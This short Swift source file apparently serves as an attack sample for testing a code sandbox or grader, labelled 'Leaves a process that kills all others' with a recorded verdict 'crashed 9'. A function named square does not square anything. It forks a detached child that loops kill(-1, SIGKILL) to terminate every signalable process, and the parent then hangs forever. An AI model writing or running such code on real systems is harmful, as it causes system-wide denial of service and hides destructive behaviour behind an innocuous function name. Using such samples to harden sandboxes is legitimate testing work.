// Attack: Leaves a process that kills all others, for as long as it lives.
// Verdict: crashed 9
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    if fork() == 0 {
        setsid()
        while true { kill(-1, SIGKILL) }
    }
    while true { pause() }
}
